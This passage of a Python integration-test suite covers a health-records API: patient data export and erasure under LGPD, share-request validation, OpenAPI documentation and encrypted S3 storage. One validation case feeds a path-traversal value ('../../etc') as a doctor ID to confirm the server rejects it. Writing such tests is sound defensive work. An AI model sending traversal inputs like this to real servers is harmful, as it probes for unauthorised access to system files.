    assert received == max_bytes
    print(
        f"\npeak RSS growth: upload {upload_growth} KiB, download {download_growth} KiB "
        f"for {max_bytes // 1024} KiB (bound {bound} KiB)"
    )
    assert upload_growth < bound
    assert download_growth < bound


# -- LGPD ----------------------------------------------------------------------------------------


def test_export_and_erasure_cover_records_shares_and_log(
    http: httpx.Client, server: ServerProcess, unique: Callable[[], int]
) -> None:
    """GET /v1/me/export has records, shares and access_log; DELETE /v1/me deletes the blobs,
    and the doctor loses access at once."""
    profile = register_patient(http, unique())
    auth = bearer(login_patient(http, profile))
    doctor = register_doctor(http, unique())
    doctor_auth = bearer(login_doctor(http, doctor))
    before = set(blob_files(server))
    info = upload(http, auth, PDF, filename="ecg.pdf", group="cardio").json()
    r = http.post(
        "/v1/me/shares",
        headers=auth,
        json={
            "doctor_id": doctor["id"],
            "groups": ["cardio"],
            "expires_at": iso(timedelta(days=7)),
        },
    )
    assert r.status_code == 201
    assert http.get(f"/v1/patients/{profile['id']}/records", headers=doctor_auth).status_code == 200
    exported = http.get("/v1/me/export", headers=auth).json()
    assert [x["id"] for x in exported["records"]] == [info["id"]]
    assert [x["doctor_id"] for x in exported["shares"]] == [doctor["id"]]
    assert [(x["record_id"], x["action"]) for x in exported["access_log"]] == [(info["id"], "list")]
    doctor_export = http.get("/v1/me/export", headers=doctor_auth).json()
    assert "records" not in doctor_export
    assert len(set(blob_files(server)) - before) == 1
    erased = http.request("DELETE", "/v1/me", json={"password": PASSWORD}, headers=auth)
    assert erased.status_code == 204
    assert set(blob_files(server)) - before == set()
    r = http.get(f"/v1/patients/{profile['id']}/records", headers=doctor_auth)
    assert r.status_code == 404
    r = http.get(f"/v1/patients/{profile['id']}/records/{info['id']}/content", headers=doctor_auth)
    assert r.status_code == 404


# -- shares: validation, and the documented contract ---------------------------------------------


def test_share_validation(http: httpx.Client, unique: Callable[[], int]) -> None:
    """Bad share bodies are 422 with a precise code; nothing about other patients leaks."""
    auth = bearer(login_patient(http, register_patient(http, unique())))
    patient_id = http.get("/v1/me", headers=auth).json()["id"]
    doctor_id = register_doctor(http, unique())["id"]
    mine = upload(http, auth, PDF).json()["id"]
    good = {"doctor_id": doctor_id, "record_ids": [mine], "expires_at": iso(timedelta(days=1))}
    cases: list[tuple[dict[str, Any], str]] = [
        ({**good, "doctor_id": patient_id}, "unknown_doctor"),
        ({**good, "doctor_id": "../../etc"}, "unknown_doctor"),
        ({**good, "record_ids": ["01ARZ3NDEKTSV4RRFFQ69G5FAV"]}, "unknown_record"),
        ({**good, "record_ids": [], "groups": []}, "empty_share"),
        ({"doctor_id": doctor_id, "expires_at": iso(timedelta(days=1))}, "empty_share"),
        ({**good, "expires_at": iso(timedelta(seconds=-5))}, "invalid_expiry"),
        ({**good, "expires_at": iso(timedelta(days=365, minutes=5))}, "invalid_expiry"),
        ({**good, "expires_at": "2030-01-01T00:00:00"}, "invalid_time"),
        ({**good, "groups": ["Not A Label!"]}, "invalid_group"),
        ({**good, "surprise": True}, "invalid_input"),
        ({**good, "record_ids": [mine] * 51}, "invalid_input"),
    ]
    for body, code in cases:
        r = http.post("/v1/me/shares", headers=auth, json=body)
        assert r.status_code == 422, (body, r.text)
        assert r.json()["code"] == code, (body, r.text)
    r = http.post(
        "/v1/me/shares", headers=auth, json={**good, "expires_at": iso(timedelta(days=364))}
    )
    assert r.status_code == 201, r.text
    share = r.json()
    assert set(share) >= {"id", "doctor_id", "record_ids", "groups", "expires_at", "created_at"}
    assert share["active"] is True
    assert http.delete(f"/v1/me/shares/{share['id']}", headers=auth).status_code == 204
    assert http.delete(f"/v1/me/shares/{share['id']}", headers=auth).status_code == 204
    r = http.delete("/v1/me/shares/01ARZ3NDEKTSV4RRFFQ69G5FAV", headers=auth)
    assert r.status_code == 404


def test_every_record_route_is_documented(http: httpx.Client) -> None:
    """The OpenAPI document lists every health-record route with its error statuses."""
    paths = http.get("/schema/openapi.json").json()["paths"]
    expected = {
        ("/v1/me/records", "post"): {"201", "401", "403", "413", "415", "422"},
        ("/v1/me/records", "get"): {"200", "401", "403", "422"},
        ("/v1/me/records/{record_id}", "get"): {"200", "401", "403", "404"},
        ("/v1/me/records/{record_id}/content", "get"): {"200", "401", "403", "404", "500"},
        ("/v1/me/records/{record_id}", "delete"): {"204", "401", "403", "404"},
        ("/v1/me/shares", "post"): {"201", "401", "403", "422"},
        ("/v1/me/shares", "get"): {"200", "401", "403"},
        ("/v1/me/shares/{share_id}", "delete"): {"204", "401", "403", "404"},
        ("/v1/me/records/access-log", "get"): {"200", "401", "403"},
        ("/v1/patients/{patient_id}/records", "get"): {"200", "401", "403", "404"},
        ("/v1/patients/{patient_id}/records/{record_id}/content", "get"): {
            "200",
            "401",
            "403",
            "404",
            "500",
        },
    }
    for (path, method), statuses in expected.items():
        operation = paths[path][method]
        assert statuses <= set(operation["responses"]), (path, method)
        assert operation.get("description")


def test_the_server_keeps_records_in_s3_under_kms(
    start_server: Callable[..., ServerProcess], moto_endpoint: str, unique: Callable[[], int]
) -> None:
    """Production wiring: HEALTHMED_BLOB_URL=s3://... and HEALTHMED_KMS_KEY_ID (moto over
    HTTP) store an encrypted object per record, and the bytes come back intact."""
    import boto3

    s3 = boto3.client("s3", endpoint_url=moto_endpoint)
    kms = boto3.client("kms", endpoint_url=moto_endpoint)
    bucket = f"records-{unique()}"
    s3.create_bucket(Bucket=bucket)
    key_id = kms.create_key()["KeyMetadata"]["KeyId"]
    server = start_server(
        HEALTHMED_ENV="test",
        HEALTHMED_BLOB_URL=f"s3://{bucket}/prontuario",
        HEALTHMED_KMS_KEY_ID=key_id,
        AWS_ENDPOINT_URL=moto_endpoint,
    )
    with httpx.Client(base_url=server.url, timeout=timeout(60)) as http:
        auth = bearer(login_patient(http, register_patient(http, unique())))
        secret = b"%PDF-1.4\nS3-CANARY confidential\n" * 1000
        info = upload(http, auth, secret).json()
        (obj,) = s3.list_objects_v2(Bucket=bucket, Prefix="prontuario/")["Contents"]
        stored = s3.get_object(Bucket=bucket, Key=obj["Key"])["Body"].read()
        assert b"S3-CANARY" not in stored
        assert http.get(f"/v1/me/records/{info['id']}/content", headers=auth).content == secret
        assert http.delete(f"/v1/me/records/{info['id']}", headers=auth).status_code == 204
        assert s3.list_objects_v2(Bucket=bucket, Prefix="prontuario/").get("Contents") is None


def test_the_access_log_names_the_doctor(http_module: httpx.Client, cast: Cast) -> None:
    """Each access-log entry carries the reading doctor's name next to the id."""
    http, owner_id, record_id = http_module, cast.owner_id, cast.record["id"]
    doctor_id, auth = cast.doctors["doctor_active"]
    name = http.get(f"/v1/doctors/{doctor_id}", headers=auth).json()["name"]
    r = http.get(f"/v1/patients/{owner_id}/records/{record_id}/content", headers=auth)
    assert r.status_code == 200
    items = http.get("/v1/me/records/access-log", headers=cast.owner).json()["items"]
    mine = [e for e in items if e["doctor_id"] == doctor_id]
    assert mine
    assert {e["doctor_name"] for e in mine} == {name}
